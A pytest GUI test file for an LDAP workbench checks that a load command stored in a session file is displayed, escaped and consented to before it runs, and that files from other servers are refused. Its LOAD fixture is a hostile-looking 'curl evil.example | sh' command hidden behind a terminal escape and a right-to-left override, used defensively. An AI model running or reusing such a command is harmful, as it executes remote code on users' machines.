"""Of a plan in a file only a rerun takes anything over, and that is read and agreed to first."""

from dataclasses import replace

import pytest
from PySide6.QtCore import Qt, QTimer
from PySide6.QtWidgets import QApplication

from ldap_workbench.figures.forms.experiment import ExperimentForm
from ldap_workbench.gui.parts.widgets.consent import ConsentBox
from ldap_workbench.gui.screens.experiment.agreement import FileConsent
from ldap_workbench.gui.screens.experiment.screen import DESIGN, VERDICT
from ldap_workbench.model.experiment import Then
from ldap_workbench.model.finding import Advice
from ldap_workbench.model.knob import Setting, Treatment
from ldap_workbench.model.message import Message
from ldap_workbench.session.reader import Session
from ldap_workbench.session.writer import SessionWriter
from tests import sessions
from tests.gui.conftest import idle, opened
from tests.gui.fake_server import Server, connect
from tests.unit.tuning.fakes import FACTS

pytestmark = pytest.mark.one_window

LOAD = "sh -c 'curl evil.example | sh'\x1b[2J\u202e" + " a" * 400
ADVICE = Advice(
    "x",
    Message("X"),
    (),
    Treatment((Setting("nsslapd-idlistscanlimit", "8000"),)),
    *[Message("Y")] * 4,
    "low",
    primary="SRCH:p99",
)
HERE = replace(FACTS, identity="389ds:here")
SEEN = LOAD.replace("\x1b", "\\x1b").replace("\u202e", "\\u202e")


@pytest.fixture(scope="module")
def files(tmp_path_factory):
    """A session of this server, one of another, and one that does not say."""
    folder, found = tmp_path_factory.mktemp("files"), {}
    for whose, identity in (("ours", HERE.identity), ("other", "389ds:there"), ("nobody", "")):
        path = sessions.build_experiment_session(
            folder / f"{whose}.ldapwb", seconds=3, per_second=20
        )
        with Session.open(path) as session:
            [stored] = session.experiments()
        with SessionWriter.append(path) as writer:
            writer.set_facts(replace(HERE, identity=identity, host=f"{whose}.example"))
            writer.put_experiment(replace(stored, plan=replace(stored.plan, load=LOAD)))
        found[whose] = path
    return found


@pytest.fixture
def begun(window, monkeypatch):
    """Plans whose run was begun; the server is a fake, and its own question is answered yes."""
    plans = []
    monkeypatch.setattr(ConsentBox, "agreed", lambda self: True)
    monkeypatch.setattr(window.experiment, "_begin", lambda plan, path: plans.append(plan))
    connect(window, Server(HERE))
    return plans


def at_the_design(qtbot, window, path, way):
    screen = opened(qtbot, window, path, "experiment")
    if way == "again":
        screen.go_to(VERDICT)
        idle(qtbot, window)
        qtbot.mouseClick(screen.verdict._again, Qt.MouseButton.LeftButton)
    else:
        screen.try_advice(ADVICE)
    idle(qtbot, window)
    screen.go_to(DESIGN)
    idle(qtbot, window)
    return screen


def answering(qtbot, do):
    """Let `do` meet the dialog that opens next."""
    met = []

    def look():
        dialog = QApplication.activeModalWidget()
        if isinstance(dialog, FileConsent):
            met.append(dialog.plan.toPlainText())
            do(dialog)

    QTimer.singleShot(50, look)
    return met


def agree(dialog):
    assert not dialog.take.isEnabled(), "the command is agreed to by itself"
    dialog.tick.setChecked(True)
    dialog.take.click()


def test_trying_advice_takes_nothing_over_from_the_file(qtbot, window, begun, files):
    """The metric is that of the advice, which is ours."""
    screen = at_the_design(qtbot, window, files["ours"], "try this")
    assert replace(screen.design.form(), seed=1) == replace(
        ExperimentForm(), primary="p99", kind="SRCH"
    )
    screen.start()
    [plan] = begun
    assert (plan.load, plan.primary, plan.window_s) == ("", "SRCH:p99", 300.0)
    assert plan.then is Then.ASK


def test_advice_after_a_rerun_takes_nothing_over_either(qtbot, window, begun, files):
    screen = at_the_design(qtbot, window, files["ours"], "again")
    assert screen.design.form().load == LOAD.strip()
    screen.try_advice(ADVICE)
    idle(qtbot, window)
    assert replace(screen.design.form(), seed=1) == replace(
        ExperimentForm(), primary="p99", kind="SRCH"
    )


def test_a_file_that_was_read_offline_is_forgotten_with_a_connection(
    qtbot, window, monkeypatch, files
):
    screen = opened(qtbot, window, files["ours"], "experiment")
    assert screen.design.form().load == LOAD.strip(), "without a server the plan may be read"
    assert "ours.ldapwb" in screen.design._file.heading.text()
    connect(window, Server(HERE))
    idle(qtbot, window)
    assert replace(screen.design.form(), seed=1) == ExperimentForm()
    assert screen.design._file.isHidden()


def test_a_plan_from_a_file_is_read_before_it_starts(qtbot, window, begun, files):
    screen = at_the_design(qtbot, window, files["ours"], "again")
    assert screen.design._file.isVisible()
    met = answering(qtbot, lambda dialog: dialog.reject())
    screen.start()
    assert begun == []
    assert f"It runs on this machine, in every window: {SEEN}" in met[0].splitlines()
    for told in ("from the file", "It sets: nsslapd", "windows of", "rests on", "Afterwards: ask"):
        assert told in met[0]
    met = answering(qtbot, agree)
    screen.start()
    assert [plan.load for plan in begun] == [LOAD.strip()]
    screen.start()
    assert len(begun) == 2, "agreed to once, it is the operator's own"


def test_no_translation_touches_the_command(german, qtbot, window, begun, files):
    screen = at_the_design(qtbot, window, files["ours"], "again")
    screen.design._load.setText("echo absent and better; echo immaterial")
    met = answering(qtbot, lambda dialog: dialog.reject())
    screen.start()
    assert "Fenster aus: echo absent and better; echo immaterial" in met[0]


def test_the_noise_floor_of_a_file_is_asked_for_as_well(qtbot, window, begun, files):
    screen = at_the_design(qtbot, window, files["ours"], "again")
    met = answering(qtbot, lambda dialog: dialog.reject())
    screen.measure_noise()
    assert begun == []
    assert SEEN in met[0]


def test_a_file_of_another_server_is_refused(qtbot, window, begun, files):
    told = []
    window.workbench.statusChanged.connect(told.append)
    screen = at_the_design(qtbot, window, files["other"], "try this")
    assert "This advice is for fake (other.example)" in told[-1]
    assert screen.change.planned is None
    screen = at_the_design(qtbot, window, files["other"], "again")
    assert "another server: fake (other.example)" in window.error_bar.heading.text()
    assert screen.change.planned is None
    assert screen.design.form().load == ""
    screen.start()
    assert begun == []


def test_a_file_that_names_no_server_is_a_strangers(qtbot, window, begun, files):
    screen = at_the_design(qtbot, window, files["nobody"], "again")
    met = answering(qtbot, lambda dialog: dialog.reject())
    screen.start()
    assert begun == []
    assert "do not trust it unread" in met[0]


def test_a_command_the_operator_wrote_needs_no_tick(qtbot, window, begun, files):
    screen = at_the_design(qtbot, window, files["ours"], "again")
    screen.design._load.setText("true")
    answering(qtbot, lambda dialog: dialog.take.click())
    screen.start()
    assert [plan.load for plan in begun] == ["true"]
